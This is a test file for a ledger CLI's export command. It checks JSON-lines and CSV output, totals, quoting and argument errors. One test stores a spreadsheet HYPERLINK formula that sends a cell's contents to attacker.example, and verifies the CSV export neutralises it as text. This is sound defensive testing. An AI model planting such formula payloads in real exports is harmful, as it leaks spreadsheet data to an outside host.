// `cli ledger export`: a period's credits and adjustments, every account, oldest first, as JSON lines
// or as CSV a spreadsheet (and the service's own CSV reader) reads back to the same values, text that
// would run as a formula kept as text; totals by currency on stderr; a command line that names no
// period is refused, writing nothing.
import { Readable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { csvRows } from '../../src/reconcile/csv.js';
import { openStore } from '../../src/store/open-store.js';
import { backends, createTestDatabase, type TestDatabase } from '../support/databases.js';
import { runCli } from '../support/processes.js';

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);
const REASON = 'paid twice, "by mistake"\nrefund agreed';

describe.each(backends())('ledger export on %s', (backend) => {
  let database: TestDatabase;
  let env: NodeJS.ProcessEnv;
  let paymentIds: string[];

  beforeEach(async () => {
    database = await createTestDatabase(backend);
    env = { DATABASE_URL: database.url };
    const store = await openStore(database.url);
    try {
      await store.migrate();
      await store.addAccount({ customerId: 'acc-1', currency: 'KZT' });
      await store.addAccount({ customerId: 'acc-2', currency: 'KZT' });
      paymentIds = [];
      for (const [customerId, amount] of [
        ['acc-1', 10000],
        ['acc-2', 2500],
      ] as const) {
        const opening = await store.openPayment({ paymentId: `pay-${customerId}`, projectId: 1234, customerId, amount, currency: 'KZT' });
        if (!('opened' in opening)) throw new Error('not opened');
        const facts = { projectId: 1234, paymentId: opening.opened.paymentId, status: 'success', amount, currency: 'KZT' };
        expect((await store.applyCallback({ facts, rawBody: JSON.stringify(facts), headers: {}, receivedAt: new Date() })).result).toBe(
          'credited',
        );
        paymentIds.push(facts.paymentId);
      }
      // Later than the credits by a clock tick at least: entries of one instant go in kind order.
      await new Promise((resolve) => setTimeout(resolve, 5));
      const adjusted = await store.addAdjustment({
        customerId: 'acc-1',
        amount: -4000,
        reason: REASON,
        idempotencyKey: 'k-1',
        actor: 'anna',
      });
      expect('adjustment' in adjusted).toBe(true);
    } finally {
      await store.close();
    }
  });
  afterEach(() => database?.drop());

  it("writes the period's entries as JSON lines, oldest first, and their totals on stderr", async () => {
    const run = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1)], env);
    expect(run.code).toBe(0);
    const entries = run.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, string | number | null>);
    expect(entries.map(({ created_at: _, id: __, ...rest }) => rest)).toEqual([
      {
        customer_id: 'acc-1',
        kind: 'credit',
        amount: 10000,
        currency: 'KZT',
        payment_id: paymentIds[0],
        callback_id: 1,
        reason: null,
        actor: null,
      },
      {
        customer_id: 'acc-2',
        kind: 'credit',
        amount: 2500,
        currency: 'KZT',
        payment_id: paymentIds[1],
        callback_id: 2,
        reason: null,
        actor: null,
      },
      {
        customer_id: 'acc-1',
        kind: 'adjustment',
        amount: -4000,
        currency: 'KZT',
        payment_id: null,
        callback_id: null,
        reason: REASON,
        actor: 'anna',
      },
    ]);
    expect(run.stderr).toBe(
      `exported 3 ledger entries made from ${day(-1)}T00:00:00.000Z to ${day(2)}T00:00:00.000Z; ` +
        'KZT: credits 125.00 KZT (12500 minor units) in 2, adjustments -40.00 KZT (-4000 minor units) in 1\n',
    );

    const before = await runCli(['ledger', 'export', '--from', '2020-01-01', '--to', '2020-01-31'], env);
    expect(before).toEqual({
      code: 0,
      stdout: '',
      stderr: 'exported 0 ledger entries made from 2020-01-01T00:00:00.000Z to 2020-02-01T00:00:00.000Z\n',
    });
  });

  it('writes CSV with a header that reads back to the same values, quotes, commas and line breaks included', async () => {
    const jsonl = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1)], env);
    const csv = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1), '--format', 'csv'], env);
    expect(csv.code).toBe(0);
    expect(csv.stderr).toBe(jsonl.stderr);
    const rows: string[][] = [];
    for await (const row of csvRows(Readable.from([csv.stdout]))) rows.push(row.fields);
    const [header, ...lines] = rows;
    expect(header).toEqual([
      'created_at',
      'kind',
      'id',
      'customer_id',
      'amount',
      'currency',
      'payment_id',
      'callback_id',
      'actor',
      'reason',
    ]);
    const asText = (entry: Record<string, string | number | null>) =>
      header!.map((column) => (entry[column] === null ? '' : String(entry[column])));
    expect(lines).toEqual(
      jsonl.stdout
        .trim()
        .split('\n')
        .map((line) => asText(JSON.parse(line) as Record<string, string | number | null>)),
    );
    expect(csv.stdout.endsWith('\r\n')).toBe(true);
  });

  it('writes text a spreadsheet would run as a formula as text, and numbers as they are', async () => {
    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"details")';
    const store = await openStore(database.url);
    try {
      await store.addAccount({ customerId: '+77011234567', currency: 'KZT' });
      const adjusted = await store.addAdjustment({
        customerId: '+77011234567',
        amount: 700,
        reason: formula,
        idempotencyKey: 'k-2',
        actor: '@night-shift',
      });
      expect('adjustment' in adjusted).toBe(true);
    } finally {
      await store.close();
    }
    const csv = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1), '--format', 'csv'], env);
    const rows: string[][] = [];
    for await (const row of csvRows(Readable.from([csv.stdout]))) rows.push(row.fields);
    const [header, ...lines] = rows;
    const cells = (line: string[] | undefined) => Object.fromEntries(header!.map((column, i) => [column, line?.[i]]));
    expect(cells(lines.at(-2))).toMatchObject({ customer_id: 'acc-1', amount: '-4000', reason: REASON });
    expect(cells(lines.at(-1))).toMatchObject({
      customer_id: "'+77011234567",
      amount: '700',
      actor: "'@night-shift",
      reason: `'${formula}`,
    });

    const jsonl = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1)], env);
    expect(JSON.parse(jsonl.stdout.trim().split('\n').at(-1)!)).toMatchObject({
      customer_id: '+77011234567',
      actor: '@night-shift',
      reason: formula,
    });
  });

  it('quotes a comma alone and a carriage return alone, and opens a leading minus or tab as text', async () => {
    const reasons = ['refund, agreed', 'first line\rsecond line', '\tindented by the console', '-40.00 by hand'];
    const store = await openStore(database.url);
    try {
      for (const [i, reason] of reasons.entries()) {
        const adjusted = await store.addAdjustment({ customerId: 'acc-2', amount: 1, reason, idempotencyKey: `q-${i}`, actor: 'anna' });
        expect('adjustment' in adjusted).toBe(true);
      }
    } finally {
      await store.close();
    }
    const csv = await runCli(['ledger', 'export', '--from', day(-1), '--to', day(1), '--format', 'csv'], env);
    expect(csv.code).toBe(0);
    expect(csv.stdout).toContain(',"refund, agreed"\r\n');
    expect(csv.stdout).toContain(',"first line\rsecond line"\r\n');
    const rows: string[][] = [];
    for await (const row of csvRows(Readable.from([csv.stdout]))) rows.push(row.fields);
    expect(rows.slice(-4).map((fields) => fields.at(-1))).toEqual([
      'refund, agreed',
      'first line\rsecond line',
      "'\tindented by the console",
      "'-40.00 by hand",
    ]);
  });

  it('refuses a command line without a period it can read, with its usage, exit 2', async () => {
    for (const [args, says] of [
      [['--from', day(0)], 'give --from and --to'],
      [
        ['--from', day(1), '--to', day(-1)],
        `the period is empty: --from ${day(1)} starts at ${day(1)}T00:00:00.000Z, --to ${day(-1)} ends at ${day(0)}T00:00:00.000Z, its whole day included; --to must end after --from starts`,
      ],
      [['--from', 'yesterday', '--to', day(0)], '--from takes a date (2026-12-01) or a time (2026-12-01T10:00:00Z), got "yesterday"'],
      [['--from', day(0), '--to', day(0), '--format', 'xlsx'], '--format is jsonl or csv, got "xlsx"'],
    ] as const) {
      const run = await runCli(['ledger', 'export', ...args], env);
      expect(run.code, args.join(' ')).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toContain(says);
      expect(run.stderr).toContain('usage: ledger export --from DATE --to DATE [--format jsonl|csv]');
    }
  });
});
